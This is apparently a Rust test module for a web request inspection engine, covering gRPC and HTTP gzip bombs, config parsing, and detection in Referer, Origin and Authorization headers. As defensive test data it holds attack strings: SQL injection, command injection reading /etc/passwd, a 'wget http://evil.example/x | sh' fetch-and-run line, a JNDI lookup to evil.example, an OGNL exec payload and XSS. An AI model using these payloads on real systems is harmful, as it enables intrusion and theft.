    pub(crate) fn q(payload: &str) -> Action {
        run(&format!(
            "GET /api/v1/items?q={} HTTP/1.1\r\nHost: localhost\r\n\r\n",
            payload.replace(' ', "%20")
        ))
        .1
    }

    /// Past the 64 KiB the detectors read of a body, gzip or deflate (gRPC
    /// messages and HTTP bodies alike): reported, only a compression bomb
    /// scored; within it, nothing.
    #[test]
    fn inflating_past_what_is_read_is_reported() {
        use std::io::Write as _;
        let gz = |b: &[u8]| {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            e.write_all(b).unwrap();
            e.finish().unwrap()
        };
        let grpc = |msg: &[u8]| {
            let z = gz(msg);
            let mut b = vec![1];
            b.extend_from_slice(&u32::try_from(z.len()).unwrap().to_be_bytes());
            b.extend_from_slice(&z);
            b
        };
        // A bomb: 5 MiB of one bytes field, then the injection past it.
        let mut msg = vec![1 << 3 | 2, 0x80, 0x80, 0xc0, 0x02];
        msg.resize(msg.len() + (5 << 20), b'a');
        msg.extend([2 << 3 | 2, 12]);
        msg.extend_from_slice(b"1' OR '1'='1");
        let req = |ctype: &str, enc: (&str, &str), body: Vec<u8>| Request {
            method: "POST".into(),
            target: "/a.S/M".into(),
            path: "/a.S/M".into(),
            headers: vec![
                ("content-type".into(), ctype.into()),
                (enc.0.into(), enc.1.into()),
            ],
            body,
            ..Request::default()
        };
        let e = Engine::new(DetectConfig::default());
        let found = |r: &Request| {
            e.inspect_request(r)
                .into_iter()
                .filter(|v| v.rule == INFLATE_LIMIT)
                .map(|v| (v.score, v.evidence))
                .collect::<Vec<_>>()
        };
        let bomb = req("application/grpc", ("grpc-encoding", "gzip"), grpc(&msg));
        let f = found(&bomb);
        assert_eq!(f.len(), 1, "{f:?}");
        assert!(f[0].0 >= 6, "{f:?}");
        assert!(
            f[0].1.starts_with("not judged past 65536: gzip gRPC"),
            "{f:?}"
        );
        // Trailing bytes after the compressed stream change nothing.
        let mut padded = grpc(&msg);
        padded.extend(vec![0x55; 2 << 20]);
        let len = u32::try_from(padded.len() - 5).unwrap().to_be_bytes();
        padded[1..5].copy_from_slice(&len);
        let f = found(&req("application/grpc", ("grpc-encoding", "gzip"), padded));
        assert!(f.len() == 1 && f[0].0 >= 6, "{f:?}");
        // A large sparse message (1 MiB of zeros, over 500:1) within what
        // servers take: reported, never scored.
        let mut sparse = vec![1 << 3 | 2, 0x80, 0x80, 0x40];
        sparse.resize(sparse.len() + (1 << 20), 0);
        let f = found(&req(
            "application/grpc",
            ("grpc-encoding", "gzip"),
            grpc(&sparse),
        ));
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, 0, "{f:?}");
        // An ordinary message within the budget: nothing.
        let small = req(
            "application/grpc",
            ("grpc-encoding", "gzip"),
            grpc(&msg[..2000]),
        );
        assert_eq!(found(&small), []);
        // An HTTP body the parser inflated past 64 KiB: reported, scored low.
        let json = format!("{{\"a\":\"{}\"}}", "x".repeat(70_000));
        let raw = gz(json.as_bytes());
        let head = format!(
            "POST /upload HTTP/1.1\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
            raw.len()
        );
        let http = match parse_request(&[head.as_bytes(), &raw].concat()) {
            Ok(Parsed::Complete { msg, .. }) => msg,
            other => panic!("{other:?}"),
        };
        assert!(http.body.len() > 65_536);
        let f = found(&http);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, 0, "{f:?}");
        // Many small compressed messages past the budget together, each an
        // ordinary 5:1: reported, never scored (a streaming client is no bomb).
        let one: Vec<u8> = (0..2_000u32).map(|i| (i % 251) as u8).collect();
        let mut stream = Vec::new();
        for _ in 0..60 {
            stream.extend(grpc(&one));
        }
        let f = found(&req("application/grpc", ("grpc-encoding", "gzip"), stream));
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, 0, "{f:?}");
    }

    pub(crate) fn run(raw: &str) -> (Vec<Violation>, Action) {
        let req = match parse_request(raw.as_bytes()) {
            Ok(Parsed::Complete { msg, .. }) => msg,
            other => panic!("parse failed: {other:?}"),
        };
        let e = Engine::new(DetectConfig::default());
        let v = e.inspect_request(&req);
        let a = e.verdict(&v);
        (v, a)
    }

    #[test]
    fn config_serde() {
        let c: DetectConfig =
            serde_json::from_str(r#"{"sqli":{"enabled":false},"ban_threshold":20}"#).unwrap();
        assert!(!c.sqli.enabled);
        assert_eq!(c.sqli.weight, 100);
        assert_eq!(c.ban_threshold, 20);
        assert!(serde_json::from_str::<DetectConfig>(r#"{"bogus":1}"#).is_err());
        assert_eq!(serde_json::to_string(&Action::Ban).unwrap(), "\"ban\"");
        assert_eq!(serde_json::to_string(&Category::Sqli).unwrap(), "\"sqli\"");
    }

    #[test]
    fn disabled_detector_is_silent() {
        let req = match parse_request(b"GET /?q=1%27%20or%20%271%27%3D%271 HTTP/1.1\r\n\r\n") {
            Ok(Parsed::Complete { msg, .. }) => msg,
            other => panic!("{other:?}"),
        };
        let on = Engine::new(DetectConfig::default());
        assert_eq!(on.verdict(&on.inspect_request(&req)), Action::Ban);
        let off = Engine::new(DetectConfig {
            sqli: DetectorConfig {
                enabled: false,
                weight: 100,
            },
            ..DetectConfig::default()
        });
        assert!(
            off.inspect_request(&req)
                .iter()
                .all(|v| v.category != Category::Sqli)
        );
    }

    #[test]
    fn evidence_masks_tokens() {
        let e = evidence("session=abcdefghijklmnopqrstuvwxyz0123 ' or 1=1", 0);
        assert!(e.contains("abcd***"), "{e}");
        assert!(!e.contains("wxyz"));
    }

    /// Common query parameter names, many of them also Unix commands (`sort`, `id`,
    /// `date`, `type`, `time`, `head`, `find`, `file`, `host`, `watch`, ...).
    const PARAM_NAMES: &[&str] = &[
        "sort", "id", "type", "date", "time", "page", "limit", "offset", "order", "from", "to",
        "start", "end", "format", "lang", "view", "tab", "filter", "status", "category", "user",
        "name", "file", "host", "source", "set", "ref", "mode", "head", "more", "less", "find",
        "watch", "top", "cut", "make", "at", "call", "for", "if", "env", "w", "who", "cat", "tail",
        "stat", "dir", "ps", "ls", "rm", "mv", "cp", "ping", "echo", "kill", "service", "route",
    ];

    /// A browser app user: every API call carries the page it was made from as
    /// Referer, with the page's query (`&sort=`, `&id=`, ...). Twenty calls must not
    /// add a single point.
    #[test]
    fn referer_and_origin_are_urls_of_this_site() {
        for (i, chunk) in PARAM_NAMES.chunks(4).enumerate() {
            let page: Vec<String> = chunk.iter().map(|n| format!("{n}=v{i}")).collect();
            let raw = format!(
                "GET /api/v1/items/{i} HTTP/1.1\r\nHost: app.example\r\n\
                 Origin: https://app.example\r\n\
                 Referer: https://app.example/list?page={i}&{}&date=2024-01-0{}#top\r\n\r\n",
                page.join("&"),
                i % 9 + 1,
            );
            let (v, a) = run(&raw);
            assert!(v.is_empty(), "{raw}: {v:?}");
            assert_eq!(a, Action::Allow);
        }
        // The same parameters in a body's text (a URL pasted in a JSON string).
        let url = format!("https://app.example/list?x=1&{}=1", PARAM_NAMES.join("=1&"));
        let body = format!("{{\"link\":\"{url}\"}}");
        let raw = format!(
            "POST /api/v1/notes HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        let (v, _) = run(&raw);
        assert!(v.iter().all(|v| v.category != Category::Cmdi), "{v:?}");
    }

    /// Attacks in a Referer or Origin are still found: in the referring page's
    /// parameters (as if they were this request's), in its path, and in values that
    /// are no URL at all.
    #[test]
    fn attacks_in_referer_and_origin() {
        for (h, val) in [
            (
                "Referer",
                "https://app.example/list?sort=desc&q=;cat /etc/passwd",
            ),
            ("Referer", "https://app.example/list?sort=desc%7Cid"),
            ("Referer", "https://app.example/?id=1' or '1'='1"),
            (
                "Referer",
                "https://app.example/?id=1 union select password from users--",
            ),
            (
                "Referer",
                "https://app.example/?q=<script>alert(1)</script>",
            ),
            ("Referer", "https://app.example/../../../../etc/passwd"),
            ("Referer", "; cat /etc/passwd"),
            ("Referer", "1' or '1'='1"),
            ("Origin", "https://app.example?x=$(id)"),
            ("Origin", "null; wget http://evil.example/x | sh"),
            ("Origin", "' or 1=1--"),
        ] {
            let raw =
                format!("GET /api/v1/items HTTP/1.1\r\nHost: app.example\r\n{h}: {val}\r\n\r\n");
            let (v, a) = run(&raw);
            assert_eq!(a, Action::Ban, "{h}: {val}: {v:?}");
        }
    }

    /// What browsers and HTTP stacks send in the headers that used to be skipped:
    /// judged now, and still nothing to report.
    #[test]
    fn browser_headers_are_judged_and_clean() {
        use base64::Engine as _;
        let basic = |c: &str| base64::engine::general_purpose::STANDARD.encode(c);
        let headers = [
            "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7".to_owned(),
            "Accept-Encoding: gzip, deflate, br, zstd".to_owned(),
            "Accept-Language: zh-CN,zh;q=0.9,en;q=0.8,en-GB;q=0.7,en-US;q=0.6".to_owned(),
            "Cache-Control: no-cache, no-store, must-revalidate".to_owned(),
            "Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW".to_owned(),
            "Content-Type: multipart/form-data; boundary=--------------------------123456789012345678901234".to_owned(),
            "If-None-Match: \"33a64df551425fcc55e4d42a148795d9f25f89d4\", W/\"0815\"".to_owned(),
            "If-Modified-Since: Wed, 21 Oct 2015 07:28:00 GMT".to_owned(),
            "Range: bytes=200-1000, 2000-6576, 19000-".to_owned(),
            "Range: bytes=-500".to_owned(),
            "X-Request-Id: f058ebd6-02f7-4d3f-942e-904344e8cde5".to_owned(),
            "Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01".to_owned(),
            "Tracestate: congo=t61rcWkgMzE,rojo=00f067aa0ba902b7".to_owned(),
            "Sec-Ch-Ua: \"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\", \"Not=A?Brand\";v=\"99\"".to_owned(),
            "Sec-Fetch-Site: same-origin".to_owned(),
            "Priority: u=1, i".to_owned(),
            "Keep-Alive: timeout=5, max=1000".to_owned(),
            "X-Requested-With: XMLHttpRequest".to_owned(),
            "Origin: https://app.example".to_owned(),
            "Origin: null".to_owned(),
            format!("Authorization: Basic {}", basic("alice:correct horse battery staple")),
            format!("Authorization: Basic {}", basic("o'brien@example.com:Tr0ub4dor&3")),
            format!("Authorization: basic {}", basic("svc-backup:x7#Kq!p2").trim_end_matches('=')),
            "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI3In0.c2ln".to_owned(),
            "Proxy-Authorization: Basic dXNlcjpwYXNz".to_owned(),
        ];
        for h in &headers {
            let raw = format!("GET /api/v1/items HTTP/1.1\r\nHost: localhost\r\n{h}\r\n\r\n");
            let (v, a) = run(&raw);
            assert!(v.is_empty(), "{h}: {v:?}");
            assert_eq!(a, Action::Allow);
        }
    }

    /// Injections in the headers that used to be skipped are found; in credentials
    /// without showing them.
    #[test]
    fn attacks_in_formerly_skipped_headers() {
        use base64::Engine as _;
        let basic = |c: &str| base64::engine::general_purpose::STANDARD.encode(c);
        let attacks = [
            "X-Request-Id: 1' or '1'='1".to_owned(),
            "X-Request-Id: ${jndi:ldap://evil.example/a}".to_owned(),
            "X-Correlation-Id: ;cat /etc/passwd".to_owned(),
            "Accept-Language: en-US,en;q=0.9' union select password from users--".to_owned(),
            "Accept-Language: ../../../../etc/passwd".to_owned(),
            "Range: bytes=0-1;cat /etc/passwd".to_owned(),
            "Content-Type: %{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}".to_owned(),
            "If-None-Match: <script>alert(document.cookie)</script>".to_owned(),
            format!("Authorization: Basic {}", basic("admin' or '1'='1' --:x")),
            format!("Authorization: Basic {}", basic("admin:' or 1=1--")),
            format!("Authorization: Basic {}", basic("admin:x;cat /etc/passwd").trim_end_matches('=')),
            format!("Proxy-Authorization: Basic {}", basic("admin' union select 1,2--:x")),
            "Authorization: Bearer ' or 1=1--".to_owned(),
        ];
        for h in &attacks {
            let raw = format!("GET /api/v1/items HTTP/1.1\r\nHost: localhost\r\n{h}\r\n\r\n");
            let (v, a) = run(&raw);
            assert_eq!(a, Action::Ban, "{h}: {v:?}");
            if h.contains("uthorization") {
                assert!(
                    v.iter().all(|v| v.evidence == CREDENTIALS_WITHHELD),
                    "{v:?}"
                );
            }
        }
    }

    #[test]
    fn benign_requests_allowed() {
        for raw in [
            "GET /api/v1/users?name=O%27Brien&sort=desc HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
            "POST /api/v1/notes HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 71\r\n\r\n{\"text\":\"Please select a union rep and drop me a line; thanks & bye\"}",
            "GET /search?q=how+to+use+select+from+where+in+sql HTTP/1.1\r\n\r\n",
        ] {
            let (v, a) = run(raw);
            assert_eq!(a, Action::Allow, "{raw}: {v:?}");
        }
    }
}
